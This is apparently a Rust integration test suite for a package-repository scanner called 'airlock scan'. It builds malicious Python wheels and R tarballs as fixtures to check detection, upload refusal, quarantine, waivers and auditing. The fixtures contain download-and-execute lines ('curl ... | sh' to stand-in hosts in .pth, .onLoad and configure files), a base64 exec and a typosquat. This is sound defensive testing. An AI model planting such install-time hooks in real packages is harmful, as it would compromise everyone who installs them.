//! `airlock scan`: real distributions are clean, built malicious ones are caught, in each output
//! format and with each exit code.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use tempfile::TempDir;

use crate::support::cmd::{Finished, run};
use crate::support::env::real_dists;
use crate::support::fixtures::HandWheel;
use crate::support::python::{TargetEnv, twine_upload};
use crate::support::r::{HandTarball, R, RPackage};
use crate::support::upload::{Auth, Upload};
use crate::support::upstream::{FakeUpstream, ProxyToml};
use crate::support::{ServerConfig, TestServer};

fn scan(args: &[&str], files: &[&Path]) -> Finished {
    run(Command::new(env!("CARGO_BIN_EXE_airlock"))
        .arg("scan")
        .args(args)
        .args(files))
}

#[track_caller]
fn code(done: &Finished) -> i32 {
    done.status.code().expect("exit code")
}

/// Rule ids of every finding of a `--format json` run, per report.
fn rules(json: &str) -> Vec<Vec<String>> {
    let value: Value = serde_json::from_str(json).expect("JSON");
    value["reports"]
        .as_array()
        .expect("reports")
        .iter()
        .map(|r| {
            let mut rules: Vec<String> = r["findings"]
                .as_array()
                .expect("findings")
                .iter()
                .map(|f| f["rule"].as_str().expect("rule").to_string())
                .collect();
            rules.sort();
            rules
        })
        .collect()
}

/// A wheel that runs a download-and-execute command at every Python start (`.pth`) and
/// executes a decoded payload at import.
fn malicious_wheel(dir: &Path) -> PathBuf {
    HandWheel::new("tidy-helpers", "1.0")
        .member(
            "tidy_helpers-init.pth",
            "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n",
        )
        .member(
            "tidy_helpers/__init__.py",
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        )
        .write(dir)
}

#[test]
fn real_distributions_scan_clean() {
    let mut files: Vec<PathBuf> = std::fs::read_dir(real_dists())
        .expect("real dists")
        .map(|e| e.expect("entry").path())
        .filter(|p| {
            let name = p.to_string_lossy();
            name.ends_with(".whl") || name.ends_with(".tar.gz")
        })
        .collect();
    files.sort();
    assert!(files.len() >= 4, "{files:?}");
    let paths: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
    let done = scan(&[], &paths).success();
    assert_eq!(
        done.stdout.matches(": clean\n").count(),
        files.len(),
        "{done}"
    );
}

#[test]
fn a_malicious_wheel_fails_with_its_findings_in_every_format() {
    let dir = TempDir::new().expect("temp dir");
    let wheel = malicious_wheel(dir.path());

    let table = scan(&[], &[&wheel]);
    assert_eq!(code(&table), 1, "{table}");
    for rule in ["py-pth-exec", "py-download-exec", "py-exec-decoded"] {
        assert!(table.stdout.contains(rule), "{rule} missing\n{table}");
    }
    assert!(table.stdout.contains("tidy_helpers-init.pth:1"), "{table}");
    assert!(table.stdout.contains("FAILED (worst critical)"), "{table}");

    let json = scan(&["--format", "json"], &[&wheel]);
    assert_eq!(code(&json), 1, "{json}");
    assert_eq!(
        rules(&json.stdout),
        [["py-download-exec", "py-exec-decoded", "py-pth-exec"]]
    );
    let value: Value = serde_json::from_str(&json.stdout).expect("JSON");
    let report = &value["reports"][0];
    assert_eq!(report["name"], "tidy-helpers");
    assert_eq!(report["ecosystem"], "pypi");
    assert_eq!(report["score"], 100);
    let decoded = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["rule"] == "py-exec-decoded")
        .expect("py-exec-decoded");
    assert_eq!(decoded["file"], "tidy_helpers/__init__.py");
    assert_eq!(decoded["line"], 2);
    assert_eq!(decoded["severity"], "critical");
    assert_eq!(decoded["kind"], "threat");

    let sarif = scan(&["--format", "sarif"], &[&wheel]);
    assert_eq!(code(&sarif), 1, "{sarif}");
    let log: Value = serde_json::from_str(&sarif.stdout).expect("SARIF JSON");
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "airlock scan");
    let results = run["results"].as_array().expect("results");
    assert_eq!(results.len(), 3);
    let rule_ids: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .map(|r| r["id"].as_str().expect("id"))
        .collect();
    for result in results {
        assert!(rule_ids.contains(&result["ruleId"].as_str().expect("ruleId")));
        assert_eq!(result["level"], "error");
        let location = &result["locations"][0]["physicalLocation"];
        assert!(location["artifactLocation"]["uri"].is_string(), "{result}");
        assert!(
            location["region"]["startLine"].as_u64().is_some(),
            "{result}"
        );
    }
}

#[test]
fn fail_at_sets_the_threshold() {
    let dir = TempDir::new().expect("temp dir");
    // A typosquat of `requests`: high, and nothing else.
    let squat = HandWheel::new("reqeusts", "2.0").write(dir.path());
    let default = scan(&["--format", "json"], &[&squat]);
    assert_eq!(code(&default), 1, "{default}");
    assert_eq!(rules(&default.stdout), [["typosquat"]]);
    let critical = scan(&["--fail-at", "critical"], &[&squat]);
    assert_eq!(code(&critical), 0, "{critical}");
    assert!(
        critical
            .stdout
            .contains("passed (worst high, below critical)"),
        "{critical}"
    );
    let bad = scan(&["--fail-at", "severe"], &[&squat]);
    assert_eq!(code(&bad), 2, "{bad}");
    assert!(bad.stderr.contains("unknown severity"), "{bad}");
}

#[test]
fn r_packages_built_by_r_are_scanned() {
    let Some(r) = R::find() else { return };
    let clean = RPackage::new("scanclean", "1.0").with_c_code().build(&r);
    let done = scan(&[], &[&clean]).success();
    assert!(
        done.stdout
            .contains("scanclean_1.0.tar.gz (cran scanclean 1.0): 0 findings, score 0: clean"),
        "{done}"
    );

    let loader = RPackage::new("scanloader", "1.0")
        .file(
            "R/zzz.R",
            ".onLoad <- function(libname, pkgname) {\n  system('curl -s https://example.invalid/p.sh | sh')\n}\n",
        )
        .build(&r);
    let done = scan(&["--format", "json"], &[&loader]);
    assert_eq!(code(&done), 1, "{done}");
    assert_eq!(
        rules(&done.stdout),
        [["r-download-exec", "r-onload-system"]]
    );
}

#[test]
fn r_install_scripts_and_typosquats() {
    let dir = TempDir::new().expect("temp dir");
    let tarball = HandTarball::new("ggplot3", "1.0")
        .member(
            "ggplot3/configure",
            "#!/bin/sh\ncurl -fsSL https://example.invalid/setup.sh | sh\n",
        )
        .write(dir.path());
    let done = scan(&["--format", "json"], &[&tarball]);
    assert_eq!(code(&done), 1, "{done}");
    assert_eq!(rules(&done.stdout), [["r-configure-remote", "typosquat"]]);
    assert!(done.stdout.contains("looks like ggplot2"), "{done}");
}

#[test]
fn unreadable_files_exit_2_and_the_others_are_still_reported() {
    let dir = TempDir::new().expect("temp dir");
    let garbage = dir.path().join("broken-1.0-py3-none-any.whl");
    std::fs::write(&garbage, b"not a zip").expect("write");
    let unnamed = dir.path().join("notes.txt");
    std::fs::write(&unnamed, b"hello").expect("write");
    let wheel = malicious_wheel(dir.path());
    let done = scan(&["--format", "json"], &[&garbage, &wheel, &unnamed]);
    assert_eq!(code(&done), 2, "{done}");
    assert!(
        done.stderr
            .contains("broken-1.0-py3-none-any.whl: not a valid zip archive"),
        "{done}"
    );
    assert!(done.stderr.contains("notes.txt"), "{done}");
    let value: Value = serde_json::from_str(&done.stdout).expect("JSON");
    assert_eq!(value["reports"].as_array().expect("reports").len(), 1);
    assert_eq!(value["errors"].as_array().expect("errors").len(), 2);
    let missing = scan(&[], &[&dir.path().join("missing.whl")]);
    assert_eq!(code(&missing), 2, "{missing}");
}

/// `plain-tools` 2.0: a wheel with nothing to find.
fn clean_wheel(dir: &Path) -> PathBuf {
    HandWheel::new("plain-tools", "2.0")
        .member(
            "plain_tools/__init__.py",
            "def add(a, b):\n    return a + b\n",
        )
        .write(dir)
}

/// `GET /api/v1/scan/{ecosystem}/{name}/{version}` with `token`: status and JSON.
fn scans_api(server: &TestServer, token: &str, path: &str) -> (u16, Value) {
    let response = server
        .http()
        .get(server.url(&format!("/api/v1/scan/{path}")))
        .bearer_auth(token)
        .send()
        .expect("GET scan");
    let status = response.status().as_u16();
    (status, response.json().unwrap_or(Value::Null))
}

/// Every upload is scanned before it is stored: a malicious wheel is refused, twine showing the
/// findings; a clean one is stored with its report, which the API shows; nothing of the refused
/// one is kept.
#[test]
fn uploads_are_scanned_and_a_malicious_one_is_refused_with_its_findings() {
    let server = TestServer::start();
    let dir = TempDir::new().expect("temp dir");
    let evil = malicious_wheel(dir.path());
    let refused = twine_upload(&server, server.publisher_token(), &[&evil], &[]).failure();
    let output = format!("{}{}", refused.stdout, refused.stderr);
    assert!(output.contains("400"), "{refused}");
    assert!(output.contains("refused by the content scan"), "{refused}");
    assert!(
        output.contains("py-pth-exec"),
        "the finding's rule is named: {refused}"
    );
    let reader = server.token("scan-reader", "reader");
    let (status, _) = scans_api(&server, &reader, "pypi/tidy-helpers/1.0");
    assert_eq!(status, 404, "nothing of the refused upload is kept");
    assert_eq!(server.database().count_rows("scans"), 0);

    let clean = clean_wheel(dir.path());
    twine_upload(&server, server.publisher_token(), &[&clean], &[]).success();
    let (status, body) = scans_api(&server, &reader, "pypi/Plain_Tools/2.0");
    assert_eq!(status, 200, "{body}");
    let file = &body["files"][0];
    assert_eq!(file["filename"], "plain_tools-2.0-py3-none-any.whl");
    assert_eq!(file["source"], "internal-pypi");
    let scan = &file["scans"][0];
    assert_eq!(scan["findings"], serde_json::json!([]), "{body}");
    assert_eq!(scan["score"], 0);
    assert!(scan["scanner"].as_str().is_some_and(|v| !v.is_empty()));
    assert!(scan["scanned_at"].as_str().is_some(), "{body}");

    let (status, _) = server
        .http()
        .get(server.url("/api/v1/scan/pypi/plain-tools/2.0"))
        .send()
        .map(|r| (r.status().as_u16(), ()))
        .expect("GET");
    assert_eq!(status, 401, "scan results need a token");
}

/// An R package whose `.onLoad` runs a downloaded script is refused at upload; with
/// `refuse_uploads_at = "never"` it is stored, and its findings kept for everyone to see.
#[test]
fn r_uploads_are_scanned_and_findings_kept_when_only_recorded() {
    let dir = TempDir::new().expect("temp dir");
    let tarball = HandTarball::new("phonehome", "1.0")
        .member(
            "phonehome/R/zzz.R",
            ".onLoad <- function(libname, pkgname) {\n  system('curl -s https://example.invalid/p.sh | sh')\n}\n",
        )
        .write(dir.path());
    let upload = |server: &TestServer| {
        Upload::file(&tarball).try_send_to(
            server.http(),
            &server.url("/upload/internal-cran/"),
            Auth::Basic(server.publisher_token()),
        )
    };
    let strict = TestServer::start();
    let reply = upload(&strict).expect("upload");
    assert_eq!(reply.status, 400, "{reply:?}");
    assert!(reply.body.contains("r-onload-system"), "{reply:?}");

    let recording = TestServer::builder()
        .config(ServerConfig::default().top("[scan]\nrefuse_uploads_at = \"never\"\n"))
        .start();
    let reply = upload(&recording).expect("upload");
    assert!((200..300).contains(&reply.status), "{reply:?}");
    let reader = recording.token("scan-reader", "reader");
    let (status, body) = scans_api(&recording, &reader, "cran/phonehome/1.0");
    assert_eq!(status, 200, "{body}");
    let rules: Vec<&str> = body["files"][0]["scans"][0]["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(rules.contains(&"r-onload-system"), "{body}");
    assert!(rules.contains(&"r-download-exec"), "{body}");
    assert_eq!(body["files"][0]["scans"][0]["worst"], "critical", "{body}");
}

/// A lane with `scan = { block_at = "high" }` quarantines what its proxies fetch: a proxied file
/// is fetched and scanned whole before its first byte is served. A malicious wheel is refused
/// (pip sees 403 with the findings), and from then on the lane's page lists no file of it; a
/// clean one installs. A lane without a scan policy serves what it is asked for, and the scan
/// is there for everyone to see.
#[test]
fn proxied_files_are_quarantined_until_scanned_and_malicious_ones_refused() {
    let upstream = FakeUpstream::start();
    let dir = TempDir::new().expect("temp dir");
    let evil = malicious_wheel(dir.path());
    let clean = clean_wheel(dir.path());
    upstream.add(&evil);
    upstream.add(&clean);
    let config = ProxyToml::new()
        .proxy("pypi", &upstream, "")
        .lane_with(
            "dev",
            &["internal-pypi", "pypi"],
            "scan = { block_at = \"high\" }",
        )
        .lane("raw", &["pypi"])
        .config();
    let server = TestServer::builder().config(config).start();
    let dev = server.url("/dev/pypi/simple/");

    let target = TargetEnv::new();
    let refused = target.pip_install(&dev, &["tidy-helpers==1.0"]).failure();
    let output = format!("{}{}", refused.stdout, refused.stderr);
    assert!(output.contains("403"), "{refused}");
    assert_eq!(
        upstream.file_requests("tidy_helpers-1.0-py3-none-any.whl"),
        1
    );
    let page = server
        .http()
        .get(server.url("/dev/pypi/simple/tidy-helpers/"))
        .send()
        .expect("page");
    assert_eq!(
        page.status().as_u16(),
        404,
        "the scanned file is no longer listed"
    );
    let text = page.text().expect("body");
    assert!(text.contains("the content scan found"), "{text}");
    let direct = server
        .http()
        .get(server.url("/dev/pypi/files/_/tidy_helpers-1.0-py3-none-any.whl"))
        .send()
        .expect("GET");
    assert_eq!(direct.status().as_u16(), 403);
    let why = direct.text().expect("body");
    assert!(why.contains("py-pth-exec"), "{why}");
    assert!(why.contains("the content scan found"), "{why}");

    target.pip_install(&dev, &["plain-tools==2.0"]).success();

    // The lane without a scan policy serves it; the upstream is not asked again.
    let raw = server
        .http()
        .get(server.url("/raw/pypi/files/_/tidy_helpers-1.0-py3-none-any.whl"))
        .send()
        .expect("GET");
    assert_eq!(raw.status().as_u16(), 200);
    assert_eq!(
        upstream.file_requests("tidy_helpers-1.0-py3-none-any.whl"),
        1
    );
    let reader = server.token("scan-reader", "reader");
    let (status, body) = scans_api(&server, &reader, "pypi/tidy-helpers/1.0");
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["files"][0]["source"], "pypi");
    assert_eq!(body["files"][0]["scans"][0]["worst"], "critical", "{body}");
}

/// Files stored before scanning was on (or scanned by an older scanner) are scanned in the
/// background, at a server's start and then every ten minutes; each scan is audited.
#[test]
fn stored_files_without_a_current_scan_are_scanned_in_the_background() {
    let mut server = TestServer::start();
    let dir = TempDir::new().expect("temp dir");
    let clean = clean_wheel(dir.path());
    twine_upload(&server, server.publisher_token(), &[&clean], &[]).success();
    // As a file stored before scanning existed.
    server
        .database()
        .execute("UPDATE artifacts SET scan_json = NULL");
    server.database().execute("DELETE FROM scans");
    let reader = server.token("scan-reader", "reader");
    let scans = |server: &TestServer| {
        let (status, body) = scans_api(server, &reader, "pypi/plain-tools/2.0");
        assert_eq!(status, 200, "{body}");
        body["files"][0]["scans"].as_array().map_or(0, Vec::len)
    };
    assert_eq!(scans(&server), 0);
    server.restart();
    crate::support::wait_until(
        std::time::Duration::from_secs(60),
        "the stored file scanned",
        || scans(&server) == 1,
    );
    assert_eq!(server.database().count_rows("scans"), 1);
    let admin = server.token("auditor", "admin");
    let audit = audit_entries(&server, &admin);
    let scanned = audit
        .iter()
        .any(|e| e["action"] == "scan" && e["actor"] == "system:scanner");
    assert!(scanned, "{audit:?}");
}

/// A file larger than `[scan] max_size` is not read by the scan: its report is the finding
/// `scan-too-large` (medium), which refuses nothing at the default `high`.
#[test]
fn files_past_the_scan_size_are_a_finding_not_read() {
    let server = TestServer::builder()
        .config(ServerConfig::default().top("[scan]\nmax_size = \"1KiB\"\n"))
        .start();
    let dir = TempDir::new().expect("temp dir");
    let big = HandWheel::new("roomy-tools", "1.0")
        .random_member("roomy_tools/data.bin", 64 * 1024)
        .write(dir.path());
    twine_upload(&server, server.publisher_token(), &[&big], &[]).success();
    let reader = server.token("scan-reader", "reader");
    let (status, body) = scans_api(&server, &reader, "pypi/roomy-tools/1.0");
    assert_eq!(status, 200, "{body}");
    let scan = &body["files"][0]["scans"][0];
    assert_eq!(scan["findings"][0]["rule"], "scan-too-large", "{body}");
    assert_eq!(scan["worst"], "medium", "{body}");
}

/// The audit log's entries, read with an admin token.
fn audit_entries(server: &TestServer, admin: &str) -> Vec<Value> {
    let audit: Value = server
        .http()
        .get(server.url("/api/v1/audit"))
        .bearer_auth(admin)
        .send()
        .expect("audit")
        .json()
        .expect("JSON");
    audit["entries"].as_array().expect("entries").clone()
}

/// A server that stores uploads whatever their findings, and whose dev lane refuses findings at
/// or above high.
fn recording_server() -> TestServer {
    TestServer::builder()
        .config(
            ServerConfig::default()
                .top("[scan]\nrefuse_uploads_at = \"never\"\n")
                .dev("scan = { block_at = \"high\" }"),
        )
        .start()
}

/// A snapshot keeps the scan results of its instant: a file scanned only after it (here, by the
/// background rescan) is refused by the live lane, and still served by the snapshot as it was.
#[test]
fn a_snapshot_keeps_the_scan_results_of_its_instant() {
    let mut server = recording_server();
    let dir = TempDir::new().expect("temp dir");
    let evil = malicious_wheel(dir.path());
    twine_upload(&server, server.publisher_token(), &[&evil], &[]).success();
    // As if stored before scanning existed; then a snapshot of that.
    server
        .database()
        .execute("UPDATE artifacts SET scan_json = NULL");
    server.database().execute("DELETE FROM scans");
    let admin = server.token("snapshots", "admin");
    run(&mut server.airlock(&["snapshot", "create", "dev", "--name", "before-scan"])).success();
    server.restart();
    let reader = server.token("scan-reader", "reader");
    crate::support::wait_until(std::time::Duration::from_secs(60), "rescanned", || {
        scans_api(&server, &reader, "pypi/tidy-helpers/1.0").1["files"][0]["scans"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
    });
    let file = |lane: &str| {
        server
            .http()
            .get(server.url(&format!(
                "/{lane}/pypi/files/_/tidy_helpers-1.0-py3-none-any.whl"
            )))
            .bearer_auth(&admin)
            .send()
            .expect("GET")
            .status()
            .as_u16()
    };
    assert_eq!(
        file("dev"),
        403,
        "the live lane refuses what the scan found"
    );
    assert_eq!(
        file("dev@before-scan"),
        200,
        "the snapshot serves what it served"
    );
}

/// A wheel whose `__init__.py` reaches the network at import: `py-import-network` (high).
pub(crate) fn phoning_wheel(dir: &Path) -> PathBuf {
    HandWheel::new("net-probe", "1.0")
        .member(
            "net_probe/__init__.py",
            "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/ping')\n",
        )
        .write(dir)
}

/// An approver waives a finding for an exact version: the lane serves it (pip installs it) with
/// the waiver shown as a warning, until the waiver expires by itself; a snapshot taken meanwhile
/// keeps serving it. Only approvers waive, only findings the files have, with a justification;
/// revoking and giving are audited.
#[test]
fn a_waived_finding_is_served_until_the_waiver_expires() {
    let server = recording_server();
    let dir = TempDir::new().expect("temp dir");
    let wheel = phoning_wheel(dir.path());
    twine_upload(&server, server.publisher_token(), &[&wheel], &[]).success();
    let file = |lane: &str| {
        server
            .http()
            .get(server.url(&format!(
                "/{lane}/pypi/files/_/net_probe-1.0-py3-none-any.whl"
            )))
            .send()
            .expect("GET")
    };
    let refused = file("dev");
    assert_eq!(refused.status().as_u16(), 403);
    assert!(refused.text().unwrap().contains("py-import-network"));

    let approver = server.token("reviewer", "approver");
    let publisher = server.publisher_token().to_string();
    let waive = |token: &str, rule: &str, justification: &str, expires: Option<&str>| {
        let mut args = vec![
            "waive",
            "pypi:Net_Probe==1.0",
            "--lane",
            "dev",
            "--rule",
            rule,
            "--justification",
            justification,
        ];
        if let Some(at) = expires {
            args.extend(["--expires", at]);
        }
        server.remote(token, &args)
    };
    let why = "reviewed: it pings the licence server, nothing is sent";
    // Only an approver; only a finding the version has; with a justification; in the future.
    let denied = waive(&publisher, "py-import-network", why, None).failure();
    assert!(denied.stderr.contains("approver"), "{denied}");
    let wrong = waive(&approver, "py-pth-exec", why, None).failure();
    assert!(
        wrong
            .stderr
            .contains("has a py-pth-exec finding; its findings: py-import-network"),
        "{wrong}"
    );
    let bare = waive(&approver, "py-import-network", " ", None).failure();
    assert!(bare.stderr.contains("justification"), "{bare}");
    let past = waive(&approver, "py-import-network", why, Some("2020-01-01")).failure();
    assert!(past.stderr.contains("not in the future"), "{past}");
    assert_eq!(file("dev").status().as_u16(), 403);

    // Given for a few seconds: pip installs it, `why` names the waiver.
    let expires = (time::OffsetDateTime::now_utc() + time::Duration::seconds(8))
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    let given = waive(&approver, "py-import-network", why, Some(&expires)).success();
    let id = given.stdout.lines().last().expect("id").trim().to_string();
    assert!(given.stdout.contains("(active)"), "{given}");
    let target = TargetEnv::new();
    target
        .pip_install(&server.url("/dev/pypi/simple/"), &["net-probe==1.0"])
        .success();
    let shown = server
        .remote(&approver, &["why", "pypi:net-probe==1.0", "--lane", "dev"])
        .success();
    assert!(
        shown
            .stdout
            .contains(&format!("waiver {id} (by reviewer, until")),
        "{shown}"
    );
    let admin = server.token("snapshots", "admin");
    run(&mut server.airlock(&["snapshot", "create", "dev", "--name", "waived"])).success();

    // Expired: refused again by itself; the snapshot keeps what it served.
    crate::support::wait_until(
        std::time::Duration::from_secs(30),
        "the waiver expired",
        || file("dev").status().as_u16() == 403,
    );
    let page = server
        .http()
        .get(server.url("/dev/pypi/simple/net-probe/"))
        .send()
        .expect("page");
    assert!(
        !page
            .text()
            .unwrap()
            .contains("net_probe-1.0-py3-none-any.whl"),
        "an expired waiver lists nothing"
    );
    let snapshot = server
        .http()
        .get(server.url("/dev@waived/pypi/files/_/net_probe-1.0-py3-none-any.whl"))
        .bearer_auth(&admin)
        .send()
        .expect("GET");
    assert_eq!(snapshot.status().as_u16(), 200);

    let listed = server
        .remote(&approver, &["waivers", "--lane", "dev", "--json"])
        .success();
    let listed: Value = serde_json::from_str(&listed.stdout).expect("JSON");
    assert_eq!(listed["waivers"][0]["state"], "expired", "{listed}");
    assert_eq!(listed["waivers"][0]["rule"], "py-import-network");
    assert_eq!(
        listed["waivers"][0]["files"].as_array().map(Vec::len),
        Some(1)
    );

    // A waiver until revoked, then revoked: refused again.
    let lasting = waive(&approver, "py-import-network", why, None).success();
    let lasting_id = lasting
        .stdout
        .lines()
        .last()
        .expect("id")
        .trim()
        .to_string();
    crate::support::wait_until(
        std::time::Duration::from_secs(10),
        "served under the new waiver",
        || file("dev").status().as_u16() == 200,
    );
    let revoked = server
        .remote(&approver, &["unwaive", &lasting_id])
        .success();
    assert!(revoked.stdout.contains("(revoked)"), "{revoked}");
    server
        .remote(&approver, &["unwaive", &lasting_id])
        .failure();
    assert_eq!(file("dev").status().as_u16(), 403);
    let audit = audit_entries(&server, &admin);
    let actions: Vec<&str> = audit
        .iter()
        .filter_map(|e| e["action"].as_str())
        .filter(|a| a.starts_with("waiver."))
        .collect();
    assert_eq!(actions, ["waiver.create", "waiver.create", "waiver.revoke"]);
}
